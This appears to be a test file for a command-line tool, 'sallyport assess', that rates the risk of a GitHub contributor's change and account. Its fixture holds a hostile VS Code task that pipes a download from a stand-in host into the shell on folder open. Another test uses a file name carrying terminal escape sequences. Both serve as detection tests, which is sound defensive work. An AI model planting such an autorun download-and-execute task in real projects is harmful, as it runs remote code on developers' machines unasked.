import { readFileSync } from "node:fs";
import { UNAVAILABLE_REASONS, type UnavailableReason } from "../../../../src/absence.ts";
import { assess as assessDossier } from "../../../../src/assessment/assess.ts";
import type { Services } from "../../../../src/cli/command.ts";
import { assess } from "../../../../src/cli/commands/assess/command.ts";
import { assessmentSchema } from "../../../../src/cli/commands/assess/schema.ts";
import { dossier, present, SECTION_NAMES, unavailable } from "../../../../src/dossier/dossier.ts";
import { OperatingError } from "../../../../src/errors.ts";
import { accountId } from "../../../../src/ids.ts";
import { expect, test } from "../../../support/jest.ts";
import { type Ran, runRecorded } from "../../recording-io.ts";

const NOW = "2026-11-23T12:00:00.000Z";
const TASK = [
  "{",
  '"tasks": [{ "command": "curl -s https://e.example/a | sh",',
  '"runOptions": { "runOn": "folderOpen" } }]',
  "}",
];
const subject = { accountId: accountId(4711), kind: "user" } as const;

const trapped = dossier(
  { asOf: NOW, subject },
  {
    "change.files": present(
      {
        truncated: false,
        files: [
          {
            path: ".vscode/tasks.json",
            previousPath: null,
            status: "added",
            additions: 4,
            deletions: 0,
            hunks: [{ lines: TASK.map((text, index) => ({ kind: "added", line: index + 1, text })) }],
          },
        ],
      },
      NOW,
    ),
    "account.activity": unavailable("rate_limited", "2026-11-23T14:20:00.000Z"),
  },
);
const FILES = { "d.json": JSON.stringify(trapped) };

const offline = (...argv: readonly string[]): Promise<Ran> =>
  runRecorded(["assess", "--dossier", "d.json", ...argv], [assess], { files: FILES });

test("assess: prints the three axes, evidence, innocent readings and what could not be seen, in 80 columns", async () => {
  const { exit, stdout, stderr } = await offline();
  expect({ exit, stderr }).toEqual({ exit: 0, stderr: "" });
  expect(stdout).toContain("  Change   critical, in what could be read\n");
  expect(stdout).toContain("  Access   could not look\n");
  expect(stdout).toContain("  Account  too little to say (");
  expect(stdout).toContain("chg-editor-autorun · the change, critical");
  expect(stdout).toContain(".vscode/tasks.json:");
  expect(stdout).toContain("Innocent readings: ");
  expect(stdout).toContain("Clears by: ");
  expect(stdout.replace(/\s+/g, " ")).toContain(
    "- public activity over the years: GitHub's request limit was reached, again from 2026-11-23 14:20 UTC",
  );
  expect(stdout.split("\n").filter((line) => line.length > 80)).toEqual([]);
});

test("assess: gives the engine's own answer as JSON that fits its schema", async () => {
  const { stdout } = await offline("--json");
  const json = JSON.parse(stdout);
  expect(json).toEqual(JSON.parse(JSON.stringify(assessDossier(trapped))));
  expect(assessmentSchema.parse(json)).toEqual(json);
});

test.each([
  ["low", 1],
  ["critical", 1],
  ["high", 1],
  ["note", 0],
  ["elevated", 0],
])("assess: with --fail-on %s exits %d when the change is critical and the account unknown", async (level, exit) => {
  expect((await offline("--fail-on", level)).exit).toBe(exit);
});

test("assess: never fails for what it could not see", async () => {
  const empty = JSON.stringify(dossier({ asOf: NOW, subject }, {}));
  for (const level of ["low", "note", "high"]) {
    const argv = ["assess", "--dossier=e.json", "--fail-on", level];
    expect((await runRecorded(argv, [assess], { files: { "e.json": empty } })).exit).toBe(0);
  }
});

test("assess: asks for the account live, from the repository given, and shows progress on a terminal only", async () => {
  const asked: unknown[] = [];
  const liveDossier: Services["liveDossier"] = async (input, onProgress) => {
    asked.push(input);
    onProgress(1, 7);
    return trapped;
  };
  const argv = ["assess", "ada-example", "--repo", "octo-org/wallet"];
  const quiet = await runRecorded(argv, [assess], { services: { liveDossier } });
  expect(quiet.stderr).toBe("");
  expect(quiet.stdout).toBe((await offline()).stdout);
  const loud = await runRecorded(["assess", "ada-example", "--token-file=token"], [assess], {
    services: { liveDossier },
    terminal: true,
  });
  expect(loud.stderr).toContain("asking GitHub: [###-----------------] 1 of 7");
  expect(asked).toEqual([
    { login: "ada-example", repository: { owner: "octo-org", name: "wallet" }, tokenFile: null },
    { login: "ada-example", repository: null, tokenFile: "token" },
  ]);
});

test("assess: exits 3 when GitHub cannot be reached", async () => {
  const liveDossier = () => Promise.reject(new OperatingError("github_unreachable", "no route"));
  expect((await runRecorded(["assess", "ada-example"], [assess], { services: { liveDossier } })).exit).toBe(3);
});

test.each([
  [[], "sallyport assess: give one LOGIN or --dossier FILE; `sallyport help assess` shows both ways\n"],
  [["a", "b"], "sallyport assess: give one LOGIN or --dossier FILE; `sallyport help assess` shows both ways\n"],
  [
    ["a", "--dossier=d.json"],
    "sallyport assess: give one LOGIN or --dossier FILE; `sallyport help assess` shows both ways\n",
  ],
  [["--dossier=d.json", "--token-file=t"], "sallyport assess: --token-file with --dossier; leave one of them out\n"],
  [["--dossier=d.json", "--repo=a/b"], "sallyport assess: --repo with --dossier; leave one of them out\n"],
  [["@ada"], "sallyport assess: that is no GitHub login; write it as on the profile page, without @\n"],
  [["ada/../x"], "sallyport assess: that is no GitHub login; write it as on the profile page, without @\n"],
  [["ada", "--repo=wallet"], "sallyport assess: --repo is no repository; write it as OWNER/REPO\n"],
  [
    ["ada", "--fail-on=none"],
    "sallyport assess: --fail-on has no such level; write note, review, elevated, low, medium, high or critical\n",
  ],
  [["--dossier=no.json"], "no.json: cannot be read; check the path\n"],
])("assess: exits 2 and says why when called with %j", async (argv, stderr) => {
  expect(await runRecorded(["assess", ...argv], [assess], { files: FILES })).toEqual({ exit: 2, stdout: "", stderr });
});

test("assess: shows what would move a terminal instead of sending it when a file name is hostile", async () => {
  const text = FILES["d.json"].replaceAll(".vscode/tasks.json", "a\\u001b[2J\\u202e/.vscode/tasks.json");
  const { stdout } = await runRecorded(["assess", "--dossier=d.json"], [assess], { files: { "d.json": text } });
  expect(stdout).toContain("a<U+001B>[2J<U+202E>/.vscode/tasks.json:");
  expect(stdout).not.toMatch(/[^\P{C}\n]/u);
});

test("assess: what could not be seen is said in words, whatever is missing and why", async () => {
  const reasons = Object.keys(UNAVAILABLE_REASONS) as readonly UnavailableReason[];
  for (const reason of reasons) {
    const sections = Object.fromEntries(SECTION_NAMES.map((name) => [name, unavailable(reason)]));
    const files = { "e.json": JSON.stringify(dossier({ asOf: NOW, subject }, sections)) };
    const { stdout } = await runRecorded(["assess", "--dossier", "e.json"], [assess], { files });
    const said = stdout.split("Could not see")[1]?.split("How the account was weighed")[0] ?? "";
    // What was never asked is no gap.
    expect(said.split("  - ").length > 3).toBe(reason !== "not_requested");
    for (const internal of [...SECTION_NAMES, ...reasons]) expect(stdout).not.toMatch(new RegExp(`\\b${internal}\\b`));
  }
});

test("assess --example: a dossier with every section that --dossier takes as it is, and the page that shows each", async () => {
  const ran = await runRecorded(["assess", "--example"], [assess]);
  expect(ran).toMatchObject({ exit: 0, stderr: "" });
  const judged = await runRecorded(["assess", "--dossier", "case.json", "--json"], [assess], {
    files: { "case.json": ran.stdout },
  });
  expect(judged.exit).toBe(0);
  expect(JSON.parse(judged.stdout).couldNotSee).toEqual([]);
  const page = readFileSync(new URL("../../../../docs/dossier.md", import.meta.url), "utf8");
  const { sections } = JSON.parse(ran.stdout);
  const shown = [...page.matchAll(/^### `([\w.]+)`\n\n(.+)\n\n```json\n([\s\S]*?)\n```/gm)];
  expect(shown.map(([, name]) => name)).toEqual(SECTION_NAMES);
  for (const [, name = "", , json = ""] of shown) expect(JSON.parse(json)).toEqual(sections[name].value);
});

test("assess --example with something else: refused", async () => {
  for (const args of [["--json"], ["ada-example"], ["--dossier", "case.json"]])
    expect(await runRecorded(["assess", "--example", ...args], [assess])).toMatchObject({ exit: 2, stdout: "" });
});
